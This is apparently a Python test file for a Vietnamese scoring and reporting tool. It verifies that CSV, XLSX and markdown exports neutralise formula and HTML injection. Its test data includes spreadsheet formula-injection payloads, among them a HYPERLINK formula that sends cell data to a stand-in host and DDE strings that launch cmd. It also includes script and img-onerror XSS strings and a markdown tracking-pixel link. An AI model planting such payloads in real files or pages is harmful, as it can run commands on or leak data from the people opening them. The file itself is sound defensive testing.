"""Inert output: text a spreadsheet would evaluate is text in CSV and XLSX, a character a workbook
cannot hold fails no unit, and markdown carries no raw HTML or link from unit text; CSV is one
table, with a BOM by default, as Excel opens it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parrules import report
from parrules.cli import main
from parrules.report import Column, Num, Row, Table

RULESET = Path(__file__).parent / "data" / "reports" / "sheet.yaml"
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](http://x.example/pixel.png)",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(TRIGGERS),
        st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=20),
    ),
    st.text(max_size=20),
)


def table(cells: list[str], negative: Decimal = Decimal("-0.5")) -> Table:
    return Table(
        "Bảng",
        "Bảng thử",
        (Column("Đơn vị"), Column("Điểm", "number", signed=True)),
        tuple(Row((text, negative)) for text in cells),
    )


def spreadsheet_would_evaluate(text: str) -> bool:
    return text.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?([0-9]+([.,][0-9]+)?%?)?", text)


@given(st.lists(texts, min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_generated_formula_text_is_inert_in_csv_and_numbers_stay_numbers(
    cells: list[str],
) -> None:
    for lang, delimiter in (("vi", ";"), ("en", ",")):
        out = report.render([table(cells)], "csv", lang)
        assert isinstance(out, str)
        text = out.removeprefix("\ufeff")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert [r[1] for r in rows[1:]] == ["-0,5" if lang == "vi" else "-0.5"] * len(cells)
        for text, row in zip(cells, rows[1:], strict=True):
            written = row[0]
            if spreadsheet_would_evaluate(text):
                assert written == "'" + text
            else:
                assert written == text


@given(st.lists(texts, min_size=1, max_size=5))
@settings(max_examples=40, deadline=None)
def test_generated_formula_text_is_a_text_cell_in_xlsx(cells: list[str]) -> None:
    data = report.render([table(cells)], "xlsx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for row, text in enumerate(cells, start=4):
        cell = sheet.cell(row=row, column=1)
        if text:
            assert cell.data_type == "s"
            shown = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", text)
            # a line break reads back as written (lxml) or as "\n" (the standard library)
            read = cell.value.replace("\r\n", "\n").replace("\r", "\n")
            assert read == shown.replace("\r\n", "\n").replace("\r", "\n")
        assert sheet.cell(row=row, column=2).value == Decimal("-0.5")


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\ud800", "\ufffe"])
def test_a_character_a_workbook_cannot_hold_fails_no_unit(character: str) -> None:
    """Before, one such character made openpyxl refuse the whole workbook."""
    rows = [f"Xã{character}A", "Xã B"]
    data = report.render([table(rows)], "xlsx")
    assert isinstance(data, bytes)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(row=r, column=1).value for r in (4, 5)] == ["Xã\ufffdA", "Xã B"]
    named = Table(f"Xã{character}A", "t", (Column("a"),), (Row(("x",)),))
    book = openpyxl.load_workbook(io.BytesIO(report.render([named], "xlsx")))  # type: ignore[arg-type]
    assert book.sheetnames == ["Xã-A"]


@given(st.lists(texts, min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_generated_unit_text_is_never_html_or_a_link_in_markdown(cells: list[str]) -> None:
    out = report.render([table(cells)], "markdown")
    assert isinstance(out, str)
    body = out.split("\n", 4)[4]  # the rows, after the title, a blank line, heads and rule
    assert "<" not in body
    assert not re.search(r"(?<!\\)\[", body)


def test_markdown_shows_html_as_text() -> None:
    out = report.render([table(ATTACKS[7:9])], "markdown")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert '&lt;img src=x onerror="alert(1)"&gt;' in out


def sheet_of_units(tmp_path: Path) -> Path:
    path = tmp_path / "xa.csv"
    lines = ["unit,ruleset,tthc_toan_trinh,tthc_co_ho_so,co_ke_hoach,sang_kien,ky_luat,1.4,2.3"]
    for name in ('"=HYPERLINK(""http://x.example"",""xem"")"', "+cmd|' /C calc'!A0", "Xã B"):
        lines.append(f"{name},{RULESET},10,5,có,cap_tinh,khien_trach: 0,1,2")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_units_named_like_formulas_are_inert_in_every_ranking_file(tmp_path: Path) -> None:
    units = sheet_of_units(tmp_path)
    for kind in ("xlsx", "csv", "zip", "markdown"):
        target = tmp_path / f"rank.{kind}"
        tables = ["--tables", "ranking"] if kind == "csv" else []
        assert main(["rank", str(units), "-o", str(target), *tables]) == 0
    book = openpyxl.load_workbook(tmp_path / "rank.xlsx")
    assert all(c.data_type != "f" for s in book.worksheets for r in s.iter_rows() for c in r)
    names = {c.value for r in book.worksheets[0].iter_rows() for c in r}
    assert '=HYPERLINK("http://x.example","xem")' in names
    text = (tmp_path / "rank.csv").read_text(encoding="utf-8")
    assert text.startswith("\ufeffHạng;Đơn vị;")
    assert "'=HYPERLINK(" in text
    assert "'+cmd|" in text
    with zipfile.ZipFile(tmp_path / "rank.zip") as archive:
        assert len(archive.namelist()) == 2
        assert all(archive.read(n).startswith("\ufeff".encode()) for n in archive.namelist())


def test_csv_has_a_bom_by_default_and_none_with_no_bom(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    units = sheet_of_units(tmp_path)
    assert main(["rank", str(units), "--tables", "ranking", "--format", "csv", "--lang", "en"]) == 0
    assert capsys.readouterr().out.startswith("\ufeffRank,Unit,")
    args = ["rank", str(units), "--tables", "ranking", "--format", "csv", "--no-bom"]
    assert main(args) == 0
    assert capsys.readouterr().out.startswith("Hạng;Đơn vị;")


def test_several_tables_are_not_one_csv_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    units = sheet_of_units(tmp_path)
    target = tmp_path / "rank.csv"
    assert main(["rank", str(units), "-o", str(target)]) == 1
    assert capsys.readouterr().err == (
        "parrules: a CSV file holds one table, and there are 2 (Xếp hạng, Xếp loại): choose one "
        "with --tables, or write one CSV file per table in a zip (-o FILE.zip)\n"
    )
    assert not target.exists()


def test_negative_and_signed_numbers_stay_numbers_in_csv() -> None:
    signed = Table(
        "t",
        "t",
        (Column("a"), Column("b", "number", signed=True), Column("c", "percent")),
        (Row(("-", Decimal("1.5"), Num(Decimal("-2"), "percent"))), Row(("+", Decimal(-3), None))),
    )
    out = report.render([signed], "csv", "en", bom=False)
    assert out.splitlines() == ["a,b,c", "-,+1.5,-2%", "+,-3.0,"]  # one precision a column


def test_a_unit_name_with_dollars_is_text_in_a_chart(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """matplotlib read "$…$" as TeX math and failed on it: an internal error for every unit."""
    unit = (Path(__file__).parent / "data" / "mini-unit.yaml").read_text(encoding="utf-8")
    unit = unit.replace("ruleset: mini.yaml", f"ruleset: {RULESET.parent.parent / 'mini.yaml'}")
    paths = []
    for name in ("Xã $\\\\frac{$", "Xã $B$"):
        path = tmp_path / f"{len(paths)}.yaml"
        path.write_text(unit.replace("unit: Huyện Thử Nghiệm", f'unit: "{name}"'), "utf-8")
        paths.append(str(path))
    for kind in ("png", "svg"):
        chart = tmp_path / f"c.{kind}"
        assert main(["score", *paths, "--chart", str(chart), "-o", str(tmp_path / "c.txt")]) == 0
        assert chart.stat().st_size > 1000
    assert capsys.readouterr().err == ""
